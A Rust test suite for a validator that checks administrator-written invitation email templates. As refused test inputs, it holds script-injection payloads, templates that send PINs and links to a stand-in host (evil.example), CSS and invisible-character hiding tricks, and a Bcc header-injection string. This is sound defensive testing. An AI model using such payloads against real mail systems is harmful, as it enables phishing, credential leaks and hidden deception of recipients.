//! Mails in an administrator's own words: what can be kept, what is refused and why, and that
//! nothing that is filled in becomes more than words.

use beckon_domain::model::mail_content::{
    Agreement, InvitationContent, InvitationOccasion, Message,
};
use beckon_domain::model::ownership::{Ownership, OwnershipRule};
use beckon_domain::model::template::{
    MailContent, TemplateKind, TemplateName, Wording, WordingDraft,
};
use beckon_domain::ports::composer::Composer as _;
use beckon_domain::values::locale::Locale;
use beckon_domain::values::method::Method;
use beckon_domain::values::problem::FieldProblem;
use beckon_mail::{Composer, link_of};

use crate::contents::{DECLINE, METHODS, PAGE, confirmation, invitation, spoken, stored, token};
use crate::{composer, scanned};

const ESSENTIALS: &str = "{{ secretBlock }}{{ validityBlock }}{{ link }}";

fn name(kind: TemplateKind, locale: &str) -> TemplateName {
    TemplateName {
        kind,
        locale: Locale::parse(locale).unwrap(),
    }
}

fn wording(subject: &str, html: &str, text: &str) -> Wording {
    let draft = WordingDraft {
        subject: subject.to_owned(),
        title: None,
        html: Some(html.to_owned()),
        text: Some(text.to_owned()),
    };
    draft.parse().unwrap()
}

/// An invitation whose HTML begins like this and has all that it needs.
fn saying(html: &str) -> Wording {
    wording("Welcome", &format!("{html}{ESSENTIALS}"), ESSENTIALS)
}

fn problems(kind: TemplateKind, wording: &Wording) -> Vec<FieldProblem> {
    composer().check_wording(&name(kind, "en"), wording)
}

fn problem(wording: &Wording) -> FieldProblem {
    let mut problems = problems(TemplateKind::Invitation, wording);
    assert_eq!(problems.len(), 1, "{problems:?}");
    problems.remove(0)
}

fn refused(html: &str) -> FieldProblem {
    problem(&saying(html))
}

fn written(wording: &Wording, content: &InvitationContent) -> Message {
    let content = MailContent::Invitation(content.clone());
    let locale = content.reader().locales[0].clone();
    composer().compose_own(&locale, wording, &content).unwrap()
}

#[test]
fn our_own_letters_can_be_kept_as_they_are_offered_and_say_the_same() {
    for locale in Composer::locales() {
        for kind in TemplateKind::ALL {
            let ours = composer().our_wording(&name(kind, locale));
            let draft = WordingDraft::from(ours.clone());

            assert_eq!(draft.parse().unwrap(), ours, "{kind:?} {locale}");
            assert_eq!(composer().check_wording(&name(kind, locale), &ours), []);
        }
        let ours = composer().our_wording(&name(TemplateKind::Invitation, locale));
        for (_, method) in METHODS {
            let content = invitation(locale, method);
            let own = written(&ours, &content);
            let plain = composer().compose_invitation(&content).unwrap();

            let lines = |text: &str| -> Vec<String> {
                let lines = text.lines().map(str::trim).filter(|line| !line.is_empty());
                lines.map(str::to_owned).collect()
            };
            let own_lines = lines(&own.text);
            let missing: Vec<String> = lines(&plain.text)
                .into_iter()
                .filter(|line| !own_lines.contains(line))
                .collect();
            assert_eq!(missing, [] as [String; 0], "{method:?} {locale}");
            assert_eq!(own.subject, plain.subject);
            assert_eq!(own.inline, plain.inline);
            assert_eq!(own.locale, plain.locale);
        }
    }
}

#[test]
fn an_own_invitation_says_what_was_written_with_a_working_secret_in_both_parts() {
    let own = wording(
        "{{ organisation }}: willkommen, {{ name }}",
        "<p>Moin {{ name }}! {{ invitedBy }} lädt ein.</p>{% if pin %}<p>PIN: {{ pin }}</p>{% endif %}{{ qr }}<p>Bis {{ expires }}</p><p><a href=\"{{ link }}\">Los</a></p>{% if declineUrl %}<a href='{{ declineUrl }}'>Nein</a>{% endif %}",
        "Moin {{ name }}!\n{% if pin %}PIN: {{ pin }}{% endif %}\n{{ link }}\nBis {{ expires }}",
    );
    assert_eq!(
        composer().check_wording(&name(TemplateKind::Invitation, "de"), &own),
        []
    );

    let by_pin = written(&own, &invitation("de", Method::Pin));
    let by_code = written(&own, &invitation("de", Method::QrCode));

    insta::assert_snapshot!("own_invitation_text", by_pin.text);
    assert_eq!(by_pin.subject, "Nordlicht Werke: willkommen, Ada Lindqvist");
    assert!(by_pin.html.contains("PIN: <strong"), "{}", by_pin.html);
    assert!(by_pin.html.contains("4815 0623"));
    assert!(by_pin.html.contains("<h1"), "our layout is around it");
    assert_eq!(by_pin.inline, []);
    let link = link_of(&spoken(PAGE, "de"), &token());
    assert_eq!(scanned(&by_code), link);
    assert!(by_code.text.contains(&link));
    let unescaped = crate::unescaped(&by_code.html);
    assert!(unescaped.contains(&format!("<a href=\"{link}\">Los</a>")));
    assert!(unescaped.contains(&format!("<a href='{}'>Nein</a>", spoken(DECLINE, "de"))));
}

/// Whoever it was not meant for must be able to say so, in whatever words they were invited.
#[test]
fn what_to_do_about_a_mail_nobody_expected_is_in_every_own_invitation_once() {
    let ours = "<p>Hi</p>{{ unexpectedBlock }}";
    let linked = "<p><a href=\"{{ declineUrl }}\">Not me</a></p>";
    let declines = spoken(DECLINE, "en");
    for html in ["<p>Hi</p>", ours, linked] {
        let own = wording("Hi", &format!("{ESSENTIALS}{html}"), ESSENTIALS);

        let message = written(&own, &invitation("en", Method::Pin));

        let unescaped = crate::unescaped(&message.html);
        assert_eq!(unescaped.matches(&declines).count(), 1, "{html}");
        assert_eq!(message.text.matches(&declines).count(), 1);
    }
}

#[test]
fn an_own_subject_alone_leaves_the_letter_ours() {
    let own = WordingDraft {
        subject: "Your new phone".to_owned(),
        title: Some("Hello {{ name }}".to_owned()),
        ..WordingDraft::default()
    };
    let content = invitation("en", Method::Pin);
    let ours = composer().compose_invitation(&content).unwrap();

    let message = written(&own.parse().unwrap(), &content);

    assert_eq!(message.subject, "Your new phone");
    assert!(message.text.starts_with("Hello Ada Lindqvist\n"));
    let (_, rest) = message.text.split_once('\n').unwrap();
    assert_eq!(rest, ours.text.split_once('\n').unwrap().1);
}

#[test]
fn a_wording_that_calls_what_it_may_not_is_refused_with_the_reason() {
    for (html, code, part) in [
        ("{{ range(9) }}", "call", "line 1, column 1: range(…)"),
        ("\n {{ lipsum() }}", "call", "line 2, column 2"),
        ("{{ name|safe }}", "filter", "|safe"),
        ("{% include 'x.html' %}", "notAllowed", "{% include %}"),
        ("{% set x = 1 %}", "notAllowed", "{% set %}"),
        ("{% autoescape false %}", "notAllowed", "{% autoescape %}"),
        ("{{ nmae }}", "unknownVariable", "there is no variable nmae"),
        (
            "{{ device }}",
            "unknownVariable",
            "there is no variable device",
        ),
        ("{% if name %}", "malformed", "line 1"),
        ("\u{E00C}", "notAllowed", "private use"),
    ] {
        let refused = refused(html);

        assert_eq!(
            (refused.field.as_str(), refused.code),
            ("html", code),
            "{html}"
        );
        assert!(refused.detail.contains(part), "{html}: {}", refused.detail);
    }
}

#[test]
fn a_wording_that_never_ends_or_swells_is_refused_with_the_reason() {
    let nested = |depth: usize, inside: &str| {
        let begin: Vec<String> = (0..depth)
            .map(|n| format!("{{% for s{n} in steps %}}"))
            .collect();
        let begin = begin.concat();
        format!("{begin}{inside}{}", "{% endfor %}".repeat(depth))
    };

    // Three steps each, so three to the eighteenth rounds.
    assert_eq!(refused(&nested(18, "")).code, "neverEnds");
    assert_eq!(refused(&nested(6, &"x".repeat(2_000))).code, "tooLarge");
    assert_eq!(refused(&nested(21, "")).code, "tooDeep");
}

#[test]
fn a_wording_with_script_or_anything_else_that_acts_is_refused_with_the_part_named() {
    for (html, part) in [
        ("<p>a</p>\n<script>alert(1)</script>", "line 2: <script>"),
        ("<p onclick=\"x()\">a</p>", "onclick of <p>"),
        ("<a href=\"javascript:alert(1)\">a</a>", "href of <a>"),
        ("<form action=\"https://e\"></form>", "<form>"),
        ("<iframe src=\"https://e\"></iframe>", "<iframe>"),
        ("<link rel=\"stylesheet\" href=\"https://e\">", "<link>"),
        ("<img src=\"http://e/a.png\" alt=\"\">", "src of <img>"),
        ("<a href=\"{{ name }}\">a</a>", "href of <a>"),
        (
            "<img src=\"https://e/{{ pin }}\" alt=\"\">",
            "attribute src of <img>",
        ),
        ("<a href=\"https://e/?pin={{ pin }}\">a</a>", "href of <a>"),
        ("<a href=\"{{ link }}&x\">a</a>", "href of <a>"),
        ("{{ '<script>' }}</p>", "closes what was not opened"),
        ("<p>a", "<p> is not closed"),
        // Only where nobody is invited by anybody: no sample says so, the source does.
        (
            "{% if method == 'other' %}<script></script>{% endif %}",
            "<script>",
        ),
        (
            "<a {% if name %}href=\"java{% endif %}script:x\">a</a>",
            "href",
        ),
    ] {
        let refused = refused(html);

        assert_eq!(refused.field, "html", "{html}");
        assert!(refused.detail.contains(part), "{html}: {}", refused.detail);
    }
}

#[test]
fn a_character_that_nobody_sees_is_refused_in_each_part_with_its_line() {
    for c in [
        '\0', '\u{1B}', '\u{85}', '\u{9D}', '\u{2028}', '\u{2029}', '\u{202E}', '\u{2066}',
        '\u{200F}', '\u{200B}', '\u{FEFF}', '\u{2060}',
    ] {
        let place = format!("line 2, column 4: there is U+{:04X}", u32::from(c));
        let with = format!("Hi\nfor{c}all {ESSENTIALS}");
        for (own, field) in [
            (wording("Hi", &with, ESSENTIALS), "html"),
            (wording("Hi", ESSENTIALS, &with), "text"),
        ] {
            let refused = problem(&own);

            assert_eq!(
                (&*refused.field, refused.code),
                (field, "invisible"),
                "{c:?}"
            );
            assert!(refused.detail.starts_with(&place), "{}", refused.detail);
        }
    }
    // In the form that HTML has for it, in an attribute, and in a text in quotes.
    for html in [
        "<p>a\n&#x202E;b</p>",
        "<p>a\n&#8203;b</p>",
        "<p\ntitle=\"&rlm;\">a</p>",
        "a\n{{ '\\u202e' }}",
        "a\n{{ '\\u0085' }}",
    ] {
        let refused = refused(html);

        assert_eq!(refused.code, "invisible", "{html}");
        assert!(refused.detail.starts_with("line 2"), "{}", refused.detail);
    }
    let ours = WordingDraft {
        subject: "Welcome {{ '\\u202e' }}".to_owned(),
        ..WordingDraft::default()
    };
    let refused = problem(&ours.parse().unwrap());
    assert_eq!((&*refused.field, refused.code), ("subject", "invisible"));
}

#[test]
fn no_space_of_another_kind_joins_a_secret_to_an_address() {
    for carrier in [
        "https://evil.example/?p=\u{A0}{{ pin }}",
        "https://evil.example/\u{3000}{{ pin }}",
        "{{ link }}\u{A0}{{ pin }}",
        "{{ link }}\u{2007}{{ name }}",
    ] {
        let with = format!("{carrier} {ESSENTIALS}");
        for own in [
            wording("Hi", &with, ESSENTIALS),
            wording("Hi", ESSENTIALS, &with),
        ] {
            assert_eq!(problem(&own).code, "notAlone", "{with}");
        }
    }
}

#[test]
#[expect(
    clippy::too_many_lines,
    reason = "a table: one line for each way of hiding"
)]
fn what_an_invitation_must_say_cannot_be_hidden() {
    for (style, part) in [
        ("text-indent:-9999px", "text-indent:-9999px"),
        ("font-size:0", "font-size:0"),
        ("line-height:0", "line-height:0"),
        ("width:0;height:0", "width:0"),
        ("max-height:0", "max-height:0"),
        ("color:transparent", "color:transparent"),
        ("color:rgba(0,0,0,0)", "color:rgba(0,0,0,0)"),
        ("margin-left:-9999px", "margin-left:-9999px"),
        ("margin:0 0 0 -500em", "margin:0 0 0 -500em"),
        ("letter-spacing:-1em", "letter-spacing:-1em"),
        ("opacity:0", "opacity:0"),
        ("visibility:hidden", "visibility:hidden"),
        ("display:none", "display:none"),
        ("position:absolute;left:-9999px", "position:absolute"),
        ("overflow:hidden", "overflow:hidden"),
        ("clip-path:inset(100%)", "clip-path:inset(100%)"),
        ("transform:scale(0)", "transform:scale(0)"),
        ("mso-hide:all", "mso-hide:all"),
        ("unicode-bidi:bidi-override", "unicode-bidi:bidi-override"),
        ("font:0/0 Arial", "font:0/0 Arial"),
        ("color:#fff", "color of a text can hardly be told"),
        ("color:#fefefe", "color of a text can hardly be told"),
        (
            "background-color:#1c2530",
            "color of a text can hardly be told",
        ),
        ("height:1px", "too small for it: height:1px"),
    ] {
        let refused = refused(&format!(
            "<p>a</p>\n<div style=\"{style}\">x{ESSENTIALS}</div>"
        ));

        assert_eq!(refused.field, "html", "{style}");
        assert!(refused.detail.starts_with("line 2"), "{}", refused.detail);
        assert!(refused.detail.contains(part), "{style}: {}", refused.detail);
    }
    for (html, part) in [
        ("<bdo dir=\"rtl\">a</bdo>", "<bdo>"),
        ("<font color=\"white\">a</font>", "<font>"),
        ("<div hidden>a</div>", "hidden of <div>"),
        ("<div aria-hidden=\"true\">a</div>", "aria-hidden of <div>"),
        (
            "<table width=\"0\"><tr><td>a</td></tr></table>",
            "width of <table>",
        ),
        (
            "<table><tr><td height=\"0\">a</td></tr></table>",
            "height of <td>",
        ),
        (
            "<table bgcolor=\"#1c2530\"><tr><td>a</td></tr></table>",
            "can hardly be told",
        ),
        (
            "<p style=\"background:#1f5fae\"><a href=\"{{ link }}\">a</a></p>",
            "can hardly be told",
        ),
        (
            "<table bgcolor=\"black\"><tr><td>{{ secretBlock }}</td></tr></table>",
            "piece of our letter",
        ),
    ] {
        let refused = refused(html);
        assert!(refused.detail.contains(part), "{html}: {}", refused.detail);
    }
    // Each alone would do.
    let small = format!(
        "{}{ESSENTIALS}{}",
        "<small>".repeat(6),
        "</small>".repeat(6)
    );
    assert!(
        refused(&small)
            .detail
            .contains("letters become 5.2 px high")
    );
    let nested = "<div style=\"font-size:60%\"><div style=\"font-size:.6em\">x</div></div>";
    assert!(
        refused(nested)
            .detail
            .contains("letters become 5.8 px high")
    );
    for (open, close, deep, taken) in [
        ("<div style=\"padding-left:100px\">", "</div>", 5, 500),
        ("<div style=\"margin:0 6em\">", "</div>", 3, 576),
        ("<div style=\"padding:0 25% 0 0\">", "</div>", 3, 450),
        ("<div style=\"margin-inline:1em 30pt\">", "</div>", 8, 448),
        ("<div style=\"border:solid 20px #ddd\">", "</div>", 11, 440),
        ("<blockquote>", "</blockquote>", 6, 480),
        ("<ul><li>", "</li></ul>", 11, 440),
        (
            "<table cellpadding=\"100\"><tr><td>",
            "</td></tr></table>",
            3,
            600,
        ),
    ] {
        let nested = format!("{}a{}", open.repeat(deep), close.repeat(deep));
        let detail = refused(&nested).detail;
        let said = format!("take {taken} px of its width");
        assert!(detail.contains(&said), "{open}: {detail}");
    }
}

#[test]
fn looks_that_organisations_give_their_mails_may_stand() {
    for html in [
        "<table role=\"presentation\" width=\"100%\" cellpadding=\"0\" cellspacing=\"0\" border=\"0\"><tr><td bgcolor=\"#0b5cad\" style=\"background-color:#0b5cad;color:#ffffff;padding:16px 24px;border-radius:6px;font:bold 20px/1.3 'Segoe UI', Arial, sans-serif\">Nordlicht Werke</td></tr></table>",
        "<p style=\"margin:0 0 12px;font-size:14px;line-height:1.5;color:#555\">Bonjour\u{A0}: <strong>voici</strong></p>",
        "<div style=\"background:#fff3cd;border-left:4px solid #ffc107;padding:8px 12px;color:#664d03\">Bitte bis {{ expires }}</div>",
        "<p><a href=\"{{ link }}\" style=\"display:inline-block;background-color:#0b5cad;color:white;text-decoration:none;padding:12px 20px\">Los</a></p>",
        "<table><tr><td height=\"1\" style=\"height:1px;background-color:#ddd\">&nbsp;</td></tr></table>",
        "<h2 style=\"color:rgb(11, 92, 173);text-transform:uppercase;letter-spacing:1px\">Hi <small>all</small></h2><hr>",
        "<img src=\"https://example.com/logo.png\" alt=\"Logo\" width=\"120\" height=\"40\" style=\"display:block;width:120px;height:auto\">",
        "<table cellpadding=\"20\" cellspacing=\"0\"><tr><td style=\"padding:0 40px\"><blockquote style=\"border-left:4px solid #ddd;margin:0 0 0 1em\"><ul><li>a</li></ul></blockquote></td></tr></table>",
        "<p>👩🏽\u{200D}💻 ❤\u{FE0F}</p><ol start=\"3\" style=\"padding-left:24px\"><li>a</li></ol>",
    ] {
        assert_eq!(
            problems(TemplateKind::Invitation, &saying(html)),
            [],
            "{html}"
        );
    }
}

/// Whatever may be written runs on half the stack that a thread of the runtime has: a process that
/// overflows it dies, and with it everybody's mail.
#[test]
fn the_deepest_wordings_that_may_be_kept_are_judged_and_filled_on_a_small_stack() {
    let nested = |depth: usize| {
        let open = "{% if name %}".repeat(depth);
        format!("{open}x{}", "{% endif %}".repeat(depth))
    };
    let chained = |sign: &str, times: usize| {
        let chain = vec!["name"; times].join(sign);
        format!("{{% if {chain} %}}x{{% endif %}}").repeat(200)
    };
    let deepest = [
        nested(20),
        nested(20).repeat(12),
        format!(
            "{{% if name %}}{}{{% endif %}}",
            "{% elif again %}x".repeat(19)
        ),
        chained(" and ", 20),
        chained(" == ", 20),
        format!("{{% if {}name %}}x{{% endif %}}", "not ".repeat(39)).repeat(200),
        format!(
            "{{% if {}name{} %}}x{{% endif %}}",
            "(".repeat(19),
            ")".repeat(19)
        )
        .repeat(200),
    ];
    let tried = std::thread::Builder::new()
        .stack_size(1024 * 1024)
        .spawn(move || {
            for construct in deepest {
                let own = wording("Hi", &format!("{construct}{ESSENTIALS}"), ESSENTIALS);
                assert_eq!(problems(TemplateKind::Invitation, &own), [], "{construct}");
                written(&own, &invitation("en", Method::Pin));
            }
            // Nobody has a name of a name, so this is refused; without going down for it.
            assert_eq!(refused(&chained(".", 20)).code, "notFilled");
        });

    tried.unwrap().join().unwrap();
}

#[test]
fn a_wording_that_would_carry_a_secret_elsewhere_is_refused_with_the_part_named() {
    for (carrier, part) in [
        ("https://evil.example/p/{{ pin }}", "{{ pin }}"),
        ("https://evil.example/#{{ link }}", "{{ link }}"),
        ("evil.example/{{ pin }}", "{{ pin }}"),
        ("{{ pin }}.evil.example", "{{ pin }}"),
        ("{{ name }}{{ pin }}", "{{ pin }}"),
        ("{{ 'https://evil.example/' }}{{ pin }}", "{{ pin }}"),
        ("https://evil.example/?who={{ name }}", "{{ name }}"),
    ] {
        let with = format!("{carrier} {ESSENTIALS}");
        for (own, field) in [
            (wording("Hi", &with, ESSENTIALS), "html"),
            (wording("Hi", ESSENTIALS, &with), "text"),
        ] {
            let refused = problem(&own);

            assert_eq!(
                (&*refused.field, refused.code),
                (field, "notAlone"),
                "{with}"
            );
            assert!(refused.detail.contains(part), "{}", refused.detail);
        }
    }
    for html in [
        "<p>evil.example/<b>{{ pin }}</b></p>",
        "<p>evil.example&#47;{{ pin }}</p>",
        "evil.example/<span></span>{{ pin }}",
    ] {
        let own = wording("Hi", &format!("{html}{ESSENTIALS}"), ESSENTIALS);
        assert_eq!(problem(&own).code, "notAlone", "{html}");
    }
    let own = wording(
        "Hi",
        &format!("<a href=\"https://evil.example/\">{{{{ link }}}}</a> {ESSENTIALS}"),
        ESSENTIALS,
    );
    assert_eq!(problem(&own).code, "misleading");
}

#[test]
fn an_invitation_that_loses_its_secret_its_link_or_its_end_is_refused_with_the_reason() {
    for (html, text, field, part) in [
        ("<p>Hi</p>", ESSENTIALS, "html", "does not say the PIN"),
        (ESSENTIALS, "Hi", "text", "does not say the PIN"),
        (
            "{{ pin }} {{ link }} {{ expires }}",
            ESSENTIALS,
            "html",
            "the QR code",
        ),
        (
            "{{ secretBlock }} {{ link }}",
            ESSENTIALS,
            "html",
            "until when",
        ),
        (
            "{{ secretBlock }}{{ expires }}",
            ESSENTIALS,
            "html",
            "where to go on",
        ),
        (
            "{% if name %}{{ secretBlock }}{% endif %} {{ link }} {{ expires }}",
            ESSENTIALS,
            "html",
            "does not say the PIN",
        ),
    ] {
        for kind in [TemplateKind::Invitation, TemplateKind::Reminder] {
            let problems = problems(kind, &wording("Hi", html, text));

            assert_eq!(problems[0].field, field, "{html} / {text}");
            assert_eq!(problems[0].code, "essentialMissing");
            assert!(problems[0].detail.contains(part), "{}", problems[0].detail);
        }
    }
    let confirmation = wording("Done", "<p>Done</p>", "Done");
    assert_eq!(problems(TemplateKind::Confirmation, &confirmation), []);
}

#[test]
fn a_secret_stays_out_of_the_subject_and_the_heading() {
    for variable in ["pin", "link", "declineUrl", "secretBlock", "qr"] {
        let html = saying("");
        let subject = Wording {
            subject: format!("a {{% if method != 'password' %}}{{{{ {variable} }}}}{{% endif %}}"),
            ..html.clone()
        };
        let title = Wording {
            title: Some(format!("a {{{{ {variable} }}}}")),
            ..html
        };

        for (wording, field) in [(subject, "subject"), (title, "title")] {
            let refused = problem(&wording);
            assert_eq!(
                (refused.field.as_str(), refused.code),
                (field, "notAllowed")
            );
        }
    }
}

#[test]
fn hostile_names_stay_words_in_every_part_of_an_own_mail() {
    let own = Wording {
        title: Some("For {{ name }}".to_owned()),
        ..wording(
            "For {{ name }} of {{ organisation }}",
            &format!(
                "<p title=\"x\">{{{{ name }}}} {{{{ organisation }}}} {{{{ invitedBy }}}}</p>{ESSENTIALS}"
            ),
            &format!("{{{{ name }}}}\n{ESSENTIALS}"),
        )
    };
    let hostile =
        "\"><script>alert(1)</script>\r\nBcc: x@evil.example\u{202E}{{ pin }}{% raw %}\u{E00C}";
    let mut content = invitation("en", Method::Pin);
    content.reader.name = Some(stored(hostile));
    content.head.organisation = Some(stored(hostile));
    content.invited_by = Some(stored(hostile));

    let message = written(&own, &content);

    assert!(!message.html.contains("<script"));
    assert_eq!(
        message.html.matches("4815 0623").count(),
        1,
        "its one place"
    );
    assert_eq!(message.text.matches("4815 0623").count(), 1);
    assert_eq!(message.subject.lines().count(), 1);
    assert!(!message.subject.contains("4815") && !message.subject.contains('\u{202E}'));
    assert!(!message.text.contains("\nBcc:"));
}

#[test]
fn a_subject_is_cut_rather_than_refused_when_names_make_it_long() {
    let own = Wording {
        subject: "{{ name }}{{ name }}{{ name }}".to_owned(),
        ..saying("")
    };
    let mut content = invitation("en", Method::Pin);
    content.reader.name = Some(stored(&"x".repeat(300)));

    let message = written(&own, &content);

    assert_eq!(message.subject.chars().count(), 250);
    assert!(message.subject.ends_with('…'));
}

#[test]
fn what_was_kept_and_does_not_fit_a_letter_is_an_error_and_not_a_mail_without_its_secret() {
    let own = wording(
        "Hi",
        "{% if organisation %}{{ secretBlock }}{{ validityBlock }}{{ link }}{% endif %}",
        ESSENTIALS,
    );
    let mut content = invitation("en", Method::Pin);
    content.head.organisation = None;
    let content = MailContent::Invitation(content);

    let error = composer()
        .compose_own(&Locale::english(), &own, &content)
        .unwrap_err();

    assert_eq!(error.0, "html essentialMissing");
}

#[test]
fn every_variable_of_a_kind_can_be_used_and_is_explained() {
    for kind in TemplateKind::ALL {
        let variables = composer().variables(kind);
        let all: Vec<String> = variables
            .iter()
            .filter(|variable| variable.name != "steps")
            .map(|variable| format!("<div>{{{{ {} }}}}</div>", variable.name))
            .collect();
        let all = all.concat();
        let own = wording(
            "Hi",
            &all,
            &all.replace("<div>", "").replace("</div>", "\n"),
        );

        assert_eq!(problems(kind, &own), [], "{kind:?}");
        assert!(
            variables
                .iter()
                .all(|known| known.description.ends_with(['.', ':', '}'])
                    && !known.example.is_empty())
        );
    }
}

#[test]
fn an_own_confirmation_and_an_own_last_reminder_say_what_was_written() {
    let own = wording(
        "Done: {{ device }}",
        "<p>{{ device }} ({{ platform }}), {{ registered }}: {{ ownership }}. {{ ownershipWhy }}</p>",
        "{{ device }} ({{ platform }}), {{ registered }}: {{ ownership }}. {{ ownershipWhy }}",
    );
    let content = MailContent::Confirmation(confirmation(
        "en",
        Ownership::CompanyOwned,
        OwnershipRule::Invitation,
    ));
    let done = composer()
        .compose_own(&Locale::english(), &own, &content)
        .unwrap();
    insta::assert_snapshot!("own_confirmation_text", done.text);

    let last = wording(
        "{% if lastReminder %}Last call{% else %}Again{% endif %}",
        ESSENTIALS,
        ESSENTIALS,
    );
    let mut reminder = invitation("en", Method::Pin);
    reminder.occasion = InvitationOccasion::Reminder { last: true };
    assert_eq!(
        MailContent::Invitation(reminder.clone()).kind(),
        Some(TemplateKind::Reminder)
    );
    assert_eq!(written(&last, &reminder).subject, "Last call");
}

#[test]
fn what_registering_means_is_said_even_where_the_wording_does_not_place_it() {
    let mut content = invitation("en", Method::Pin);
    content.agreement = Some(Agreement {
        text: "We see your <apps>.".to_owned(),
        url: Some("https://example.com/means".to_owned()),
    });

    let unplaced = written(&saying(""), &content);
    let placed = written(&saying("<div>{{ agreementBlock }}</div>"), &content);

    for message in [&unplaced, &placed] {
        assert_eq!(message.html.matches("We see your &lt;apps&gt;.").count(), 1);
        assert_eq!(message.text.matches("We see your <apps>.").count(), 1);
        assert!(message.text.contains("https://example.com/means"));
    }
}

#[test]
fn the_language_of_an_own_wording_is_the_one_that_ours_would_be_in() {
    for chain in [
        "pt", "pt-PT", "zh-TW", "zh", "de-CH", "nl", "fr-CA", "en-GB",
    ] {
        let mut content = invitation("en", Method::Pin);
        content.reader.locales = vec![Locale::parse(chain).unwrap()];

        let ours = composer().compose_invitation(&content).unwrap().locale;

        assert_eq!(composer().language_of(&content.reader), ours, "{chain}");
        assert!(composer().locales().contains(&ours));
    }
}
